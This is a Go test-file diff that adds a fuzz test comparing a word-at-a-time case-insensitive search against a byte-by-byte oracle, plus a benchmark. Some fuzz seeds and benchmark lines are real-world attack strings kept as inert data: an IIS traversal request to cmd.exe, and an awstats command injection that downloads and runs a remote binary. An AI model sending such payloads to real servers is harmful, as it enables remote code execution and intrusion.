@@ -100,7 +100,7 @@ func TestAgainstReference(t *testing.T) {
 		return b
 	}
 	for round := 0; round < 5000; round++ {
-		b := random(rng.IntN(12))
+		b := random(rng.IntN(40))
 		lower := string(reference(random(rng.IntN(4))))
 		folded := reference(b)
 		if got, want := ToLower(string(b)), string(folded); got != want {
@@ -130,5 +130,51 @@ func TestComparisonsDoNotAllocate(t *testing.T) {
 	})
 	if allocs != 0 {
 		t.Fatalf("allocated %v times per run", allocs)
+	}
+}
+
+// indexFoldByteByByte is the byte-at-a-time search IndexFold replaced: the oracle of FuzzIndexFold.
+func indexFoldByteByByte(b []byte, lower string) int {
+	for i := 0; i+len(lower) <= len(b); i++ {
+		if EqualFold(b[i:i+len(lower)], lower) {
+			return i
+		}
+	}
+	return -1
+}
+
+// FuzzIndexFold compares IndexFold with the byte-at-a-time search on any text and needle,
+// including bytes that differ from a letter only in 0x20 and needles longer than a word.
+func FuzzIndexFold(f *testing.F) {
+	f.Add([]byte("GET /scripts/..%c0%af../winnt/system32/CMD.EXE?/c+dir HTTP/1.0"), "cmd.exe")
+	f.Add([]byte("@@@@@@@@`````````[[[[[[[{{{{{{{{ abc"), "`")
+	f.Add([]byte("\x01\x00\x01\x00cgi\x00\x01CGI-BIN"), "cgi-bin")
+	f.Add([]byte("aaaaaaaaaaaaaaaaaaaaaaab"), "aab")
+	f.Fuzz(func(t *testing.T, b []byte, needle string) {
+		lower := ToLower(needle)
+		if got, want := IndexFold(b, lower), indexFoldByteByByte(b, lower); got != want {
+			t.Fatalf("IndexFold(%q, %q) = %d, want %d", b, lower, got, want)
+		}
+	})
+}
+
+func BenchmarkIndexFold(b *testing.B) {
+	lines := [][]byte{
+		[]byte("/images/products/2002/catalogue-autumn-big.jpg"),
+		[]byte("Sep 10 00:00:00 gw sshd[2211]: Failed password for invalid user oracle from 203.0.113.77 port 40322 ssh2"),
+		[]byte("/cgi-bin/awstats.pl?configdir=|echo;echo%20YYY;cd%20%2ftmp%3bwget%2024%2e224%2e174%2e18%2flisten%3bchmod%20%2bx%20listen%3b%2e%2flisten%20216%2e102%2e212%2e115%3becho%20YYY;echo|"),
+	}
+	for _, impl := range []struct {
+		name  string
+		index func([]byte, string) int
+	}{{"words", IndexFold}, {"bytes", indexFoldByteByByte}} {
+		b.Run(impl.name, func(b *testing.B) {
+			for b.Loop() {
+				for _, l := range lines {
+					impl.index(l, "cgi")
+					impl.index(l, "authentication failure")
+				}
+			}
+		})
 	}
 }
